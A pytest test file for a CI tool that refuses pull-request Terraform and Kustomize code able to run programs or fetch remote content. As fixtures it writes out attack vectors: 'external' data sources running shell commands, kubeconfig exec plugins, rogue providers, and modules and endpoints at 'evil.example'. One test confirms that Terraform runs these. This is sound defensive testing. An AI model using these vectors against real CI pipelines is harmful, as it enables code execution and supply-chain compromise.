"""Code that a pull request brings for a plan to run: refused before anything is downloaded or started."""

from __future__ import annotations

import json
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from tests.conftest import write_tree
from tests.platforms import Platform, assert_refused, invoke

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

PULL = ("--event", "pull_request", "--ref", "refs/heads/change", "--target", "main")
GITLAB = {
    "GITLAB_CI": "true",
    "CI_PIPELINE_SOURCE": "merge_request_event",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": "change",
    "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
}
EXTERNAL = 'data "external" "x" {\n  program = ["sh", "-c", "touch pwned"]\n}\n'
EVIL = 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n'
STATE = """data "terraform_remote_state" "x" {
  backend = "kubernetes"
  config = { secret_suffix = "x", config_path = "kubeconfig" }
}
"""
BACKEND = """terraform {
  backend "kubernetes" {
    secret_suffix = "x"
    config_path   = "kubeconfig"
  }
}
"""
KUBECONFIG = """apiVersion: v1
kind: Config
current-context: x
clusters: [{name: x, cluster: {server: "https://127.0.0.1:1"}}]
contexts: [{name: x, context: {cluster: x, user: x}}]
users:
- name: x
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      interactiveMode: Never
      command: touch
      args: [pwned]
"""
PROVIDER = 'provider "helm" {{\n  {}\n}}\n'
LOGIN = 'kubernetes = { exec = { command = "aws", args = ["eks", "get-token", "--region", var.region] } }'
BROUGHT: dict[str, tuple[dict[str, str], str]] = {
    "provider of another name": ({"infra/evil.tf": EVIL}, "infra/evil.tf:3: provider evil/aws"),
    "provider of another host": (
        {"infra/evil.tf": EVIL.replace("evil/aws", "evil.example/hashicorp/aws")},
        "provider evil.example/hashicorp/aws",
    ),
    "provider of a module": (
        {"infra/modules/cluster/evil.tf": EVIL},
        "modules/cluster/evil.tf:3: provider evil/aws",
    ),
    "provider in JSON": (
        {"infra/evil.tf.json": '{"terraform": [{"required_providers": {"aws": {"source": "evil/aws"}}}]}'},
        "infra/evil.tf.json: provider evil/aws",
    ),
    "external": ({"infra/evil.tf": EXTERNAL}, "infra/evil.tf:1: data source external"),
    "http": ({"infra/evil.tf": 'data "http" "x" {\n  url = "https://x"\n}\n'}, "data source http"),
    "external without quotes": (
        {"infra/evil.tf": EXTERNAL.replace('"external"', "external")},
        "data source external",
    ),
    "external with an escape": (
        {"infra/evil.tf": EXTERNAL.replace("external", "extern\\u0061l")},
        "file infra/evil.tf cannot be read",
    ),
    "external behind an error": ({"infra/evil.tf": f"locals {{ a = 1e10 }}\n{EXTERNAL}"}, "infra/evil.tf"),
    "external in JSON": (
        {"infra/evil.tf.json": '{"data": {"external": {"x": {"program": ["id"]}}}, "data": {}}'},
        "file infra/evil.tf.json cannot be read",
    ),
    "external in an override": ({"infra/x_override.tf": EXTERNAL}, "data source external"),
    "module from elsewhere": (
        {"infra/evil.tf": 'module "x" {\n  source = "git::https://evil.example/x?ref=v1"\n}\n'},
        "module git::https://evil.example/x",
    ),
    "state of others by a program": (
        {"infra/evil.tf": STATE, "infra/kubeconfig": KUBECONFIG},
        "infra/evil.tf:1: setting terraform_remote_state",
    ),
    "state of others at any address": (
        {"infra/evil.tf": STATE.replace('"kubernetes"', '"s3"').replace("config_path", "endpoint")},
        "setting terraform_remote_state",
    ),
    "state by a program": (
        {"infra/override.tf": BACKEND, "infra/kubeconfig": KUBECONFIG},
        "infra/override.tf:2: setting backend kubernetes",
    ),
    "state by a program in JSON": (
        {
            "infra/x_override.tf.json": '{"terraform": {"backend": {"kubernetes": {"config_path": "x"}}}}',
        },
        "infra/x_override.tf.json: setting backend kubernetes",
    ),
    "state with others": (
        {"infra/evil.tf": 'terraform {\n  cloud {\n    hostname = "evil.example"\n  }\n}\n'},
        "setting cloud",
    ),
    "login by a program": (
        {"infra/evil.tf": PROVIDER.format('exec = { command = "aws", args = ["configure", "set"] }')},
        "infra/evil.tf:2: setting provider helm: exec",
    ),
    "login by a program that is computed": (
        {"infra/evil.tf": PROVIDER.format('dynamic "exec" {\n    for_each = [1]\n  }')},
        "setting provider helm: exec",
    ),
    "login by a file": (
        {"infra/evil.tf": PROVIDER.format('shared_config_files = ["evil"]')},
        "setting provider helm: shared_config_files",
    ),
    "login elsewhere, in JSON": (
        {"infra/evil.tf.json": '{"provider": {"aws": [{"endpoints": {"sts": "https://evil.example"}}]}}'},
        "setting provider aws: endpoints",
    ),
    "provider as a file": (
        {"infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/99.0.0/linux_amd64/x": "#!/bin/sh\n"},
        "x: a provider in the repository",
    ),
}


@pytest.fixture
def pull(hosted: Platform) -> Platform:
    """A platform with the branch of a pull request checked out."""
    hosted.git("checkout", "--quiet", "-b", "change")
    return hosted


def bring(pull: Platform, files: Mapping[str, str]) -> None:
    write_tree(pull.root, files)
    pull.git("add", "--force", "--all")
    pull.commit()


@pytest.mark.parametrize("case", BROUGHT)
def test_code_for_a_plan_to_run_is_refused(pull: Platform, case: str) -> None:
    files, words = BROUGHT[case]
    bring(pull, files)
    done = invoke(pull.root, "run", *PULL)
    assert done.code == 5, done.said
    for said in ("nothing of this pull request is planned", words):
        assert said in done.said
    assert not (pull.root / "infra/.terraform").exists()
    assert not list(pull.root.parent.rglob("pwned"))


def test_code_for_a_plan_that_is_asked_for_is_refused(pull: Platform) -> None:
    bring(pull, {"infra/evil.tf": EXTERNAL})
    words = ["data source external", "`pull_requests` in kubestack.yaml"]
    assert_refused(pull, "plan", "infra", code=5, words=words, **GITLAB)
    assert not (pull.root / "infra/.terraform").exists()


def test_code_behind_a_link_is_refused(pull: Platform) -> None:
    """Git lists nothing below a link, so it is not read; Terraform would find it."""
    module = 'module "x" {\n  source = "./modules/other"\n}\n'
    write_tree(pull.root, {"infra/evil.tf": module, "hidden/main.tf": EXTERNAL})
    (pull.root / "infra/modules/other").symlink_to("../../hidden", target_is_directory=True)
    pull.commit()
    words = ["infra/evil.tf:1: ./modules/other: a symbolic link to other code"]
    assert_refused(pull, "run", *PULL, code=5, words=words)
    assert not list(pull.root.parent.rglob("pwned"))


def test_code_of_the_target_may_be_planned(hosted: Platform) -> None:
    """What runs with every apply, what the official namespace has, and what the settings of main allow."""
    hosted.edit(
        "kubestack.yaml", "\nversion: 1\n", "\nversion: 1\npull_requests: {modules: [github.com/acme/*]}\n"
    )
    write_tree(hosted.root, {"infra/more.tf": EVIL})
    hosted.commit()
    hosted.push()
    hosted.git("checkout", "--quiet", "-b", "change")
    official = 'provider "random" {}\nmodule "x" {\n  source = "github.com/acme/x?ref=v2"\n}\n'
    bring(hosted, {"infra/own.tf": official})
    done = hosted.kubestack("run", *PULL)
    assert "nothing of this pull request is planned" not in done.said
    assert "infra (ops): failed" in done.out, "it is not to be had here, but it was tried"


def test_settings_of_the_target_may_be_planned(hosted: Platform) -> None:
    """What steers Terraform may stay, unless a file of the pull request could change its meaning."""
    fixed = BACKEND + PROVIDER.format('exec = { command = "mine" }')
    write_tree(
        hosted.root, {"infra/more.tf": fixed, "infra/computed.tf": STATE.replace('"kubeconfig"', "local.x")}
    )
    hosted.commit()
    hosted.push()
    hosted.git("checkout", "--quiet", "-b", "change")
    bring(hosted, {"infra/more.tf": fixed.replace(" = ", "  =  "), "infra/login.tf": PROVIDER.format(LOGIN)})
    done = invoke(hosted.root, "run", *PULL)
    assert done.code == 5, done.said
    lines = [line.strip() for line in done.said.splitlines() if line.startswith("  infra/")]
    assert lines == ["infra/computed.tf:1: setting terraform_remote_state"]


def test_the_attacks_on_settings_would_work(tmp_path: Path) -> None:
    """Terraform alone runs the program that a kubeconfig names, at `init` and in a plan."""
    for name, text, command in (("init", BACKEND, "init"), ("plan", STATE, "plan")):
        write_tree(tmp_path / name, {"main.tf": text, "kubeconfig": KUBECONFIG})
        subprocess.run(
            ["terraform", command, "-input=false"], cwd=tmp_path / name, capture_output=True, check=False
        )
        assert (tmp_path / name / "pwned").exists()


def test_pull_request_cannot_allow_itself_anything(pull: Platform) -> None:
    pull.edit("kubestack.yaml", "\nversion: 1\n", "\nversion: 1\npull_requests: {external: allow}\n")
    bring(pull, {"infra/evil.tf": EXTERNAL})
    done = assert_refused(pull, "run", *PULL, code=5, words=["data source external"])
    assert not list(pull.root.parent.rglob("pwned"))
    assert "allow it on main first" in done.err


class Heard(ThreadingHTTPServer):
    """A server that an attacker listens with; it answers with an object."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Ear)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Ear(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Heard)
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"{apiVersion: v1, kind: ConfigMap, metadata: {name: evil, namespace: web}}")

    def log_message(self, *_: object) -> None:
        """Nothing on the terminal."""


@pytest.fixture
def heard() -> Iterator[Heard]:
    server = Heard()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with server:
        yield server
        server.shutdown()


BASE = "manifests/web/base/kustomization.yaml"
CHART = {
    "apiVersion": "builtin",
    "kind": "HelmChartInflationGenerator",
    "name": "x",
    "metadata": {"name": "x"},
}
FETCHED = {
    "file": "resources:\n- {url}/evil.yaml\n",
    "base": "resources:\n- {url}/acme/evil//base?ref=v1\n",
    "base without a scheme": "resources:\n- evil@127.0.0.1:acme/evil.git//base\n",
    "component": "components:\n- {url}/acme/evil.git\n",
    "patch": "resources: [service.yaml]\npatches:\n- path: {url}/evil.yaml\n",
    "chart": "helmCharts:\n- {{name: x, repo: '{url}'}}\n",
    "chart of a generator": "generators:\n- chart.yaml\n",
    "chart of a generator that is written out": "generators:\n- |\n  kind: X\n  repo: {url}\n",
    "what only Kustomize reads": "resources: [service.yaml]\nresources: ['{url}/evil.yaml']\n",
}


@pytest.mark.parametrize("case", FETCHED)
def test_address_for_kustomize_to_ask_is_refused(
    pull: Platform, heard: Heard, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    """Neither a plan nor `validate`, which is all that happens to a fork, asks an address that is new."""
    chart = json.dumps({**CHART, "repo": heard.url})
    bring(pull, {BASE: FETCHED[case].format(url=heard.url), "manifests/web/base/chart.yaml": chart})
    done = invoke(pull.root, "run", *PULL)
    assert done.code == 5, done.said
    assert "nothing of this pull request is planned" in done.said
    for name, value in GITLAB.items():
        monkeypatch.setenv(name, value)
    done = invoke(pull.root, "validate", "-o", "json")
    assert done.code == 1, done.said
    checks = {item["check"] for item in done.json["findings"]}
    assert checks & {"elsewhere", "yaml"}
    assert heard.asked == []


def test_address_of_the_target_is_asked(hosted: Platform, heard: Heard) -> None:
    """And one that it allows; only the revision may be another."""
    asks = f"  - service.yaml\n  - {heard.url}/known.yaml?version=1\n"
    hosted.edit(BASE, "  - service.yaml\n", asks)
    allow = f"\nversion: 1\npull_requests: {{modules: ['{heard.url}/allowed*']}}\n"
    hosted.edit("kubestack.yaml", "\nversion: 1\n", allow)
    hosted.commit()
    hosted.push()
    hosted.git("checkout", "--quiet", "-b", "change")
    hosted.edit(BASE, "version=1", f"version=2\n  - {heard.url}/allowed.yaml")
    hosted.commit()
    hosted.kubestack("validate", **GITLAB)
    assert {path.partition("?")[0] for path in heard.asked} >= {"/known.yaml", "/allowed.yaml"}
